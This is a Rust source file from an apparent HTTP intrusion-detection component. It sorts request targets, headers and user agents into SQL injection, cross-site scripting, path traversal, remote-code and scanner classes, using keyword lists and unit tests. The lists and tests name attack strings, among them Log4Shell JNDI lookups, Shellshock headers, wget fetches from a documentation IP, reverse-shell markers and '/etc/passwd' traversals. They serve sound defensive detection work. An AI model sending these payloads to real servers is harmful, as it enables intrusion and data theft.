//! Attacks in a request line or header, by what they must say to work.
//!
//! Text is decoded once or twice (percent and plus) and lower-cased before it is looked at. Only
//! combinations that a page's own links do not have are taken: a lone quote or the word `select`
//! is not an attack. Not promised: attacks in bodies, or in encodings beyond these.

use ghost_event::Behaviours;

/// Longest text looked at; an attack that needs more than this before its first word is missed.
const LOOK_BYTES: usize = 4096;

/// What a request target says.
pub(crate) fn target(raw: &[u8]) -> Behaviours {
    let mut found = Behaviours::NONE;
    // Most targets have none of the signs that every attack below needs.
    let plain = !raw.iter().any(|b| b"'\"<>(;|`${}%\\+*=~&".contains(b)) && !has(raw, b"..");
    if !plain {
        let text = decoded(raw);
        found = code(&text).with(injection(&text)).with(script(&text)).with(walk(&text));
    }
    if !found.is_empty() {
        return found;
    }
    let lower = lowered(raw);
    if PROBED.iter().any(|path| has(&lower, path)) {
        found.insert(Behaviours::WEB_SCAN);
    }
    if SENSITIVE.iter().any(|path| has(&lower, path)) {
        found.insert(Behaviours::PATH_TRAVERSAL);
    }
    found
}

/// What a header (`name: value`) says.
pub(crate) fn header(raw: &[u8]) -> Behaviours {
    let text = lowered(raw);
    let mut found = Behaviours::NONE;
    if text.starts_with(b"authorization: basic ")
        || text.starts_with(b"proxy-authorization: basic ")
    {
        found.insert(Behaviours::CLEARTEXT_CREDENTIALS);
        return found;
    }
    if has(&text, b"jndi:")
        || has(&text, b"${")
        || has(&text, b"() {")
        || has(&text, b"(){")
        || has(&text, b"%24%7b")
    {
        found.insert(code(&decoded(raw)));
    }
    // Cookies and referrers carry injected text as targets do.
    if (text.starts_with(b"cookie:") || text.starts_with(b"referer:")) && has(&text, b"'") {
        found.insert(injection(&decoded(raw)));
    }
    found
}

/// What a user agent says: a scanner by name, or code.
pub(crate) fn agent(raw: &[u8]) -> Behaviours {
    let text = lowered(raw);
    let mut found = Behaviours::NONE;
    if SCANNERS.iter().any(|name| has(&text, name)) {
        found.insert(Behaviours::WEB_SCAN);
    }
    found.insert(header(raw));
    found
}

const SCANNERS: &[&[u8]] = &[
    b"nikto",
    b"sqlmap",
    b"nmap scripting",
    b"masscan",
    b"zgrab",
    b"nessus",
    b"openvas",
    b"acunetix",
    b"wpscan",
    b"dirbuster",
    b"gobuster",
    b"dirb ",
    b"feroxbuster",
    b"ffuf",
    b"wfuzz",
    b"nuclei",
    b"arachni",
    b"w3af",
    b"skipfish",
    b"burpcollaborator",
    b"netsparker",
    b"whatweb",
    b"zmeu",
    b"havij",
    b"jaeles",
    b"commix",
    b"morfeus",
    b"fimap",
    b"brutus",
    b"hydra",
    b"qualys",
    b"hello, world",
    b"hello world",
    b"netsystemsresearch",
    b"censysinspect",
    b"expanse",
];

/// Paths that only somebody asks for who looks for holes.
const PROBED: &[&[u8]] = &[
    b"/phpmyadmin",
    b"/pma/",
    b"/wp-config",
    b"/.git/",
    b"/.env",
    b"/.svn/",
    b"/.aws/",
    b"/cgi-bin/",
    b"/hnap1",
    b"/boaform",
    b"/setup.cgi",
    b"/shell?",
    b"/manager/html",
    b"/actuator/",
    b"/solr/admin",
    b"/vendor/phpunit",
    b"/autodiscover/autodiscover.json?",
    b"/owa/auth/x.js",
    b"/remote/fgt_lang",
    b"/gponform",
    b"/struts2",
    b"/jmx-console",
    b"/invoker/jmx",
    b"/axis2",
    b"/muieblackcat",
    b"/xmlrpc.php?",
    b"/webdav/shell",
    b"/console/images/%252e",
    b"/_ignition/",
    b"/c99.php",
    b"/r57.php",
    b"/ws_utc/",
    b"/wls-wsat/",
    b"/robots.txt.bak",
    b"/backup.sql",
    b"/dump.sql",
    b"/web.config",
    b"/server-status",
    b"/phpinfo",
    b"/info.php",
    b"/administrator/components",
];

/// Files that no page names.
const SENSITIVE: &[&[u8]] = &[
    b"/etc/passwd",
    b"/etc/shadow",
    b"/proc/self/",
    b"boot.ini",
    b"win.ini",
    b"/windows/system32/",
    b"/web-inf/web.xml",
    b"/.ssh/id_",
    b"/.htpasswd",
];

/// `../` walks, also in disguise.
fn walk(text: &[u8]) -> Behaviours {
    let steps = count(text, b"../") + count(text, b"..\\") + count(text, b"..;/");
    let overlong = has(text, b"....//")
        || has(text, b"..%c0%af")
        || has(text, b"..%c1%9c")
        || has(text, b"%2e%2e%2f");
    let asks = SENSITIVE.iter().any(|path| has(text, path));
    if steps >= 3
        || overlong
        || asks
        || (steps >= 1 && (has(text, b"etc/") || has(text, b"windows")))
    {
        Behaviours::PATH_TRAVERSAL
    } else {
        Behaviours::NONE
    }
}

/// SQL in a request.
fn injection(text: &[u8]) -> Behaviours {
    // Comments and blanks between words are the commonest disguise.
    let text = squeezed(text);
    let has = |needle: &[u8]| has(&text, needle);
    let words = has(b"union select")
        || has(b"union all select")
        || has(b"' or '")
        || has(b"'or'")
        || has(b"' or 1")
        || has(b"\" or \"")
        || has(b" or 1=1")
        || has(b"' and '1")
        || has(b"' and 1=")
        || has(b" and 1=1")
        || has(b"or 'x'='x")
        || has(b"or 'a'='a")
        || has(b"or ''='")
        || has(b"' having ")
        || has(b"' group by ")
        || has(b"' order by ")
        || has(b"procedure analyse")
        || has(b"dbms_pipe")
        || has(b"[$ne]")
        || has(b"[$gt]")
        || has(b"[$regex]")
        || has(b"sysobjects")
        || has(b"information_schema")
        || has(b"order by 1--")
        || has(b"; drop table")
        || has(b";drop table")
        || has(b"insert into ")
        || has(b"xp_cmdshell")
        || has(b"waitfor delay")
        || has(b"benchmark(")
        || has(b"pg_sleep(")
        || has(b"extractvalue(")
        || has(b"updatexml(")
        || has(b"load_file(")
        || has(b"into outfile")
        || has(b"utl_inaddr")
        || has(b"group_concat(")
        || has(b"concat(0x")
        || has(b"@@version")
        || (has(b"select ") && has(b" from ") && (has(b"'") || has(b"(") || has(b"--")))
        || (has(b"' ") && (has(b"--") || has(b"#")) && has(b"="))
        || has(b"'--")
        || (has(b"sleep(") && (has(b"'") || has(b" and ") || has(b" or ")));
    if words { Behaviours::SQL_INJECTION } else { Behaviours::NONE }
}

/// Script in a request.
fn script(text: &[u8]) -> Behaviours {
    let has = |needle: &[u8]| has(text, needle);
    let tag = has(b"<script")
        || has(b"</script")
        || has(b"javascript:")
        || has(b"<iframe")
        || has(b"<svg")
        || has(b"document.cookie")
        || has(b"onerror=")
        || has(b"onload=")
        || has(b"onmouseover=")
        || has(b"alert(")
        || has(b"string.fromcharcode")
        || has(b"onfocus=")
        || has(b"onclick=")
        || has(b"ontoggle=")
        || has(b"onmouseenter=")
        || has(b"<body ")
        || has(b"<object")
        || has(b"<embed")
        || has(b"prompt(")
        || has(b"confirm(")
        || has(b"document.location")
        || has(b"window.location=")
        || (has(b"<img") && has(b"src="));
    if tag { Behaviours::CROSS_SITE_SCRIPTING } else { Behaviours::NONE }
}

/// Shell, JNDI or template code.
fn code(text: &[u8]) -> Behaviours {
    let has = |needle: &[u8]| has(text, needle);
    let jndi = (has(b"jndi:") && has(b"://"))
        || has(b"${jndi:")
        || (has(b"${")
            && (has(b"${lower:") || has(b"${upper:") || has(b"${::-") || has(b"${env:")));
    let shock = has(b"() {") || has(b"(){ ") || has(b"() { :;}");
    let template = has(b"t(java.lang.runtime)")
        || has(b"java.lang.runtime")
        || has(b"java.lang.processbuilder")
        || has(b"#_memberaccess")
        || has(b"@ognl.")
        || has(b"ognlcontext")
        || has(b"class.module.classloader")
        || has(b"__import__(")
        || has(b"getruntime(")
        || has(b"%{(#")
        || has(b"%{#context")
        || has(b"{{7*7}}")
        || has(b"${7*7}")
        || has(b"__class__")
        || has(b"<!entity")
        || has(b"script:javascript:");
    let php = has(b"<?php")
        || has(b"base64_decode(")
        || has(b"shell_exec(")
        || has(b"passthru(")
        || has(b"phpinfo()")
        || has(b"php://input")
        || has(b"php://filter")
        || has(b"auto_prepend_file")
        || has(b"call_user_func_array")
        || has(b"allow_url_include")
        || has(b"invokefunction")
        || has(b"expect://")
        || has(b"system(")
        || has(b"eval(");
    let shell = has(b"/bin/sh")
        || has(b"/bin/bash")
        || has(b"cmd.exe")
        || has(b"cmd /c")
        || has(b"powershell")
        || has(b";wget ")
        || has(b"; wget ")
        || has(b"|wget ")
        || has(b"`wget ")
        || has(b"wget http")
        || has(b"curl http")
        || has(b";curl ")
        || has(b"|curl ")
        || has(b"chmod 777")
        || has(b"chmod +x")
        || has(b"busybox")
        || has(b"cd /tmp")
        || has(b"/dev/tcp/")
        || has(b"nc -e")
        || has(b";id;")
        || has(b";cat ")
        || has(b"|cat ")
        || has(b"$(cat ")
        || has(b"`id`")
        || has(b"|id|")
        || has(b"|whoami")
        || has(b";whoami")
        || has(b"&whoami")
        || has(b"; ls ")
        || has(b";ls ")
        || has(b"169.254.169.254")
        || has(b"gopher://")
        || has(b"$(id)");
    let remote = (has(b"=http://") || has(b"=https://") || has(b"=ftp://"))
        && (has(b".txt?") || has(b".txt%00") || has(b"cmd=") || has(b"shell"));
    if jndi || shock || template || php || shell || remote {
        Behaviours::REMOTE_CODE
    } else {
        Behaviours::NONE
    }
}

fn has(text: &[u8], needle: &[u8]) -> bool {
    let Some((first, rest)) = needle.split_first() else { return true };
    let mut from = 0;
    while let Some(at) = text.get(from..).and_then(|t| t.iter().position(|b| b == first)) {
        let after = from + at + 1;
        if text.get(after..after + rest.len()) == Some(rest) {
            return true;
        }
        from = after;
    }
    false
}

fn count(text: &[u8], needle: &[u8]) -> usize {
    text.windows(needle.len().max(1)).filter(|w| *w == needle).count()
}

fn lowered(raw: &[u8]) -> Vec<u8> {
    raw.get(..LOOK_BYTES).unwrap_or(raw).to_ascii_lowercase()
}

/// Percent and plus decoded, twice where it was done twice, lower-cased.
fn decoded(raw: &[u8]) -> Vec<u8> {
    let once = percent(raw.get(..LOOK_BYTES).unwrap_or(raw));
    let twice = if once.contains(&b'%') { percent(&once) } else { once };
    twice.to_ascii_lowercase()
}

fn percent(raw: &[u8]) -> Vec<u8> {
    let hex = |b: Option<&u8>| b.and_then(|b| char::from(*b).to_digit(16));
    let mut out = Vec::with_capacity(raw.len());
    let mut at = 0;
    while let Some(byte) = raw.get(at) {
        let pair = (*byte == b'%').then(|| (hex(raw.get(at + 1)), hex(raw.get(at + 2))));
        match (byte, pair) {
            (_, Some((Some(high), Some(low)))) => {
                out.push(u8::try_from(high * 16 + low).unwrap_or(b'?'));
                at += 3;
            }
            (b'+', _) => {
                out.push(b' ');
                at += 1;
            }
            _ => {
                out.push(*byte);
                at += 1;
            }
        }
    }
    out
}

/// Comments and runs of blanks as one blank.
fn squeezed(text: &[u8]) -> Vec<u8> {
    let mut out: Vec<u8> = Vec::with_capacity(text.len());
    let mut at = 0;
    while let Some(byte) = text.get(at) {
        if text.get(at..at + 2) == Some(b"/*") {
            let end = text.get(at + 2..).and_then(|t| t.windows(2).position(|w| w == b"*/"));
            at = end.map_or(text.len(), |end| at + end + 4);
            push_blank(&mut out);
        } else if byte.is_ascii_whitespace() {
            at += 1;
            push_blank(&mut out);
        } else {
            out.push(*byte);
            at += 1;
        }
    }
    out
}

fn push_blank(out: &mut Vec<u8>) {
    if out.last() != Some(&b' ') {
        out.push(b' ');
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks_are_told_by_their_kind() {
        for (text, expected) in [
            (
                "/item?id=1%27%20UNION/**/SELECT%20user,pass%20FROM%20users--",
                Behaviours::SQL_INJECTION,
            ),
            ("/login?u=admin'+or+'1'%3D'1", Behaviours::SQL_INJECTION),
            ("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", Behaviours::CROSS_SITE_SCRIPTING),
            ("/s?q=%253Cscript%253E", Behaviours::CROSS_SITE_SCRIPTING),
            ("/x?a=${jndi:ldap://198.51.100.1/a}", Behaviours::REMOTE_CODE),
            ("/ping?host=1;wget+http://198.51.100.1/x", Behaviours::REMOTE_CODE),
            ("/../../../../etc/passwd", Behaviours::PATH_TRAVERSAL),
            ("/a?f=....//....//conf", Behaviours::PATH_TRAVERSAL),
            ("/a?user[$ne]=x&pass[$ne]=x", Behaviours::SQL_INJECTION),
            ("/a?id=1'+ORDER+BY+4--+-", Behaviours::SQL_INJECTION),
            ("/a?q=%22%3E%3Cinput+onfocus%3Dprompt(1)%3E", Behaviours::CROSS_SITE_SCRIPTING),
            ("/a?u=http://169.254.169.254/latest", Behaviours::REMOTE_CODE),
            ("/a?name={{7*7}}", Behaviours::REMOTE_CODE),
            ("/a?host=127.0.0.1;whoami", Behaviours::REMOTE_CODE),
            ("/..%2f..%2f..%2fsecret", Behaviours::PATH_TRAVERSAL),
            ("/phpMyAdmin/index.php", Behaviours::WEB_SCAN),
        ] {
            assert!(
                target(text.as_bytes()).contains(expected),
                "{text}: {:?}",
                target(text.as_bytes())
            );
        }
    }

    #[test]
    fn what_pages_link_to_is_no_attack() {
        for text in [
            "/",
            "/index.html",
            "/search?q=how+to+select+a+good+wine+from+france",
            "/news?title=O%27Reilly+and+friends",
            "/a/b/../c.css",
            "/redirect?url=https://www.example.org/page%3Fa=1%26b=2",
            "/img;jsessionid=8A7F?x=(1,2)&y={3}",
            "/complete/search?client=x&q=%22drop%22",
            "/generate_204",
            "/pagead/ads?u_tz=60&dt=1&bc=31&ref=http%3A%2F%2Fexample.com%2F%3Fa%3D1",
        ] {
            assert!(target(text.as_bytes()).is_empty(), "{text}: {:?}", target(text.as_bytes()));
        }
    }

    #[test]
    fn headers_tell_credentials_and_code() {
        assert_eq!(header(b"Authorization: Basic dXNlcjpwYXNz"), Behaviours::CLEARTEXT_CREDENTIALS);
        assert_eq!(header(b"X-Api-Version: ${jndi:ldap://a/b}"), Behaviours::REMOTE_CODE);
        assert_eq!(agent(b"() { :;}; /bin/bash -c id"), Behaviours::REMOTE_CODE);
        assert_eq!(agent(b"sqlmap/1.5 (https://sqlmap.org)"), Behaviours::WEB_SCAN);
        assert!(agent(b"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0").is_empty());
        assert!(header(b"Accept-Language: en").is_empty());
    }

    #[test]
    fn any_bytes_have_an_answer() {
        bolero::check!().with_iterations(2000).for_each(|text: &[u8]| {
            let _ = (target(text), header(text), agent(text));
            assert!(percent(text).len() <= text.len());
        });
    }
}
